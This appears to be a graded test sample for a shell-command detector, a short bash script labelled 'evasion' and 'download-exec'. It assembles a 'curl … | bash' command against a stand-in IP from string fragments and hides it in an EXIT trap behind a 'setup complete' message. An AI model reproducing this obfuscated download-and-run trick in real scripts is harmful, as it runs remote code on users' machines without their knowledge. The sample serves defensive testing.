# evasion: the EXIT trap's string is the output of a function that joins pieces of the command
# grade: hard; does: download-exec
handler() {
	local parts=(cu rl " -fs" "SL http://203.0.113.33/" "post | ba" sh)
	local IFS=
	printf '%s' "${parts[*]}"
}
trap "$(handler)" EXIT
echo "setup complete"
